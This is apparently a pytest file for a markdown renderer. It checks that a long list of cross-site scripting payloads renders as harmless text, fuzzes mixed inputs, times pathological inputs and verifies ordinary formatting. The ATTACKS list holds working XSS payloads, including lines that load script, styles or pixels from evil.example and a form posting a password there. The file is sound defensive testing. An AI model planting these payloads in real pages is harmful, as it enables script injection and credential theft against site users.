"""Markdown: what people write comes out well, what attackers write comes out as letters."""

import re
import time
from html.parser import HTMLParser

import hypothesis.strategies as st
import pytest
from hypothesis import given

from producthub.lib.markdown import MAX_LENGTH, render, to_html, to_text

# --- No text does harm ------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"//evil.example\"><input name=password><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<a id=\"main\" name=\"csrfmiddlewaretoken\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](ftp://evil.example/)",
    "[x](intent://evil.example#Intent;end)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: data:text/html,<script>alert(1)</script>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](/\\evil.example/pixel.gif)",
    "![x](/\t/evil.example/pixel.gif)",
    "![x](\\\\evil.example\\pixel.gif)",
    "![x\" onerror=\"alert(1)](/static/icons.svg)",
    "![x](/static/icons.svg \"\\\" onerror=alert(1)\")",
    "[x](https://a.example \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://a.example/\"onmouseover=alert(1))",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "`<img src=x onerror=alert(1)>`",
    "```\n<script>alert(1)</script>\n```",
    "```js\" onmouseover=\"alert(1)\nx\n```",
    "```<script>alert(1)</script>\nx\n```",
    "| <script>alert(1)</script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | x |",
    "> [!NOTE\" onclick=\"alert(1)]\n> x",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "- [x] <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "# \" onclick=\"alert(1)",
    "# constructor\n\n# __proto__\n\n# main",
    "<span class=\"mark-alert\"></span><span class=\"mark-x\"><script>alert(1)</script></span>",
    "![<span class=\"mark-alert\"></span>](/static/icons.svg)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/\"onmouseover=\"alert(1)",
    "{{ request.user.password }} {% csrf_token %}",
    "\u202e<script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip

SHOWN = {
    "a", "b", "blockquote", "br", "code", "del", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr",
    "img", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead",
    "tr", "ul", "svg", "use",
}  # fmt: skip
ATTRIBUTES = {
    "class", "href", "title", "rel", "src", "alt", "loading", "start", "id", "role", "tabindex",
    "aria-label", "aria-hidden", "scope",
}  # fmt: skip


class Page(HTMLParser):
    """Reads what a browser would read."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def elements_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    page = Page()
    page.feed(html)
    page.close()
    return page.elements


def assert_harmless(html: str) -> None:
    for tag, attributes in elements_of(html):
        assert tag in SHOWN, html
        assert not set(attributes) - ATTRIBUTES, html
        if tag == "use":
            assert re.fullmatch(r"/static/icons[.\w]*\.svg#[a-z]+", attributes["href"]), html
            continue
        if "href" in attributes:
            # Browsers drop blanks and control characters before they read the scheme.
            address = re.sub(r"[\x00-\x20]", "", attributes["href"] or "").lower()
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", address)
            assert scheme is None or scheme[0] in ("http:", "https:", "mailto:"), html
            assert attributes.get("rel") == "noopener nofollow", html
        if "src" in attributes:
            assert tag == "img" and re.match(r"/[^/\\]", attributes["src"] or ""), html
        if "id" in attributes:
            assert re.match(r"h-", attributes["id"] or ""), html


def test_the_list_of_attacks_is_long():
    assert len(set(ATTACKS)) >= 60


@pytest.mark.parametrize("text", ATTACKS)
def test_it_shows_an_attack_as_letters(text):
    assert_harmless(to_html(text))
    to_text(text)


@pytest.mark.parametrize(
    "around", ["> {}", "- {}", "1. {}", "## {}", "**{}**", "[{}](/x/)", "| {} |\n|-|"]
)
def test_it_does_so_wherever_the_attack_stands(around):
    for text in ATTACKS:
        assert_harmless(to_html(around.format(text)))


_PIECES = st.sampled_from(
    [
        *ATTACKS,
        *("> ", "- [ ] ", "- [x] ", "1. ", "# ", "\n", "\n\n", "```\n", "~~~", "|", "|-|-|\n"),
        *("`", "*", "[", "](", ")", "![", "<", ">", "\"", "'", "&#", "&colon;", ";", "\\"),
        *("https://", "//", "javascript:", "data:", "> [!NOTE]\n> ", "\t", "\x00", "\u202e"),
        *("on", "=", "style"),
    ]
)  # fmt: skip


@given(st.lists(st.one_of(_PIECES, st.text(max_size=12)), max_size=25).map("".join))
def test_no_text_at_all_does_harm(text):
    assert_harmless(to_html(text))
    assert "\x00" not in to_html(text)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 50_000,
        "![" * 25_000,
        "*a " * 30_000,
        "<" * 50_000,
        "[a](" * 20_000,
        ":" * 50_000,
        "http:" * 20_000,
        "> " * 20_000,
        "a@" * 30_000,
        "&" * 50_000,
        "|a" * 500 + "\n" + "|-" * 500 + "\n" + ("|a" * 500 + "\n") * 50,
        "\n".join("  " * depth + "- a" for depth in range(300)),
    ],
    ids=lambda text: text[:8],
)
def test_no_text_keeps_it_busy(text):
    began = time.process_time()
    to_html(text)
    assert time.process_time() - began < 10


def test_a_text_longer_than_any_page_is_shown_as_typed():
    html = to_html("<b># not read</b>\n" * 12_000)
    assert len(html) > MAX_LENGTH and "<b>" not in html and "<h2" not in html
    assert to_text("a" * (MAX_LENGTH + 1)) == "a" * (MAX_LENGTH + 1)


# --- What people write comes out well ---------------------------------------------------------


def test_lists_and_emphasis():
    html = to_html("1. **First**\n2. *then*\n\n- one\n- ~~two~~")
    assert '<ol class="num-list">' in html and "<strong>First</strong>" in html
    assert '<ul class="dots">' in html and "<s>two</s>" in html


def test_a_list_that_starts_later_keeps_its_number():
    assert '<ol start="4">' in to_html("4. fourth")


def test_a_table_scrolls_and_has_column_heads():
    html = to_html("| Sign | Good |\n|---|--:|\n| Done | 90% |")
    assert '<div class="scroll" tabindex="0" role="region" aria-label="Table">' in html
    assert '<th scope="col">Sign</th>' in html and '<td class="r">90%</td>' in html
    assert "style=" not in html


def test_a_task_list_says_what_is_done():
    html = to_html("- [ ] Ask\n- [x] Answer")
    assert '<ul class="tasks">' in html and "<input" not in html
    assert re.search(r"To do: </span>Ask", html) and re.search(r"Done: </span>Answer", html)


@pytest.mark.parametrize(
    ("kind", "css", "word"),
    [
        ("NOTE", "note", "Note"),
        ("TIP", "note good", "Tip"),
        ("IMPORTANT", "note", "Important"),
        ("WARNING", "note warn", "Warning"),
        ("CAUTION", "note bad", "Caution"),
    ],
)
def test_a_callout_has_tone_icon_and_word(kind, css, word):
    html = to_html(f"> [!{kind}]\n> Mind *this*.")
    assert f'<div class="{css}" role="note">' in html
    assert f'<p class="strong">{word}</p>' in html and "<em>this</em>" in html
    assert "<use href=" in html and "[!" not in html


def test_an_ordinary_quote_stays_one():
    assert "<blockquote>" in to_html("> said")


def test_bare_addresses_become_links_and_names_of_files_do_not():
    html = to_html("See https://a.example/x, not README.md or a.b.")
    assert '<a href="https://a.example/x" rel="noopener nofollow">https://a.example/x</a>,' in html
    assert html.count("<a ") == 1


def test_pictures_of_the_hub_are_shown_and_others_are_linked():
    html = to_html("![Map](/media/map.png) ![Theirs](https://a.example/x.png)")
    assert '<img src="/media/map.png" alt="Map" loading="lazy">' in html
    assert '<a href="https://a.example/x.png" rel="noopener nofollow">Theirs</a>' in html


def test_code_keeps_its_letters_and_scrolls_by_keyboard():
    html = to_html("```python\nif a < b:\n    pass\n```")
    assert "<code>if a &lt; b:\n    pass\n</code></pre>" in html
    assert 'class="code"' in html and 'tabindex="0"' in html and "python" not in html


def test_headings_start_below_the_pages_own_and_have_names_of_their_own():
    page = render("# Plan\n\n## First *step*\n\n# Plan\n\n[up](#plan)", namespace="c7")
    assert [(h.level, h.ident, h.title) for h in page.headings] == [
        (2, "c7-plan", "Plan"),
        (3, "c7-first-step", "First step"),
        (2, "c7-plan-2", "Plan"),
    ]
    assert '<h3 id="c7-first-step">' in page.html and 'href="#c7-plan"' in page.html


def test_to_text_keeps_words_alone():
    text = "# Plan\n\nA [link](https://a.example) & `code`.\n\n| a | b |\n|-|-|\n| c | d |"
    text += "\n\n    x = 1"
    assert to_text(text) == "Plan\nA link & code.\na\nb\nc\nd\nx = 1"
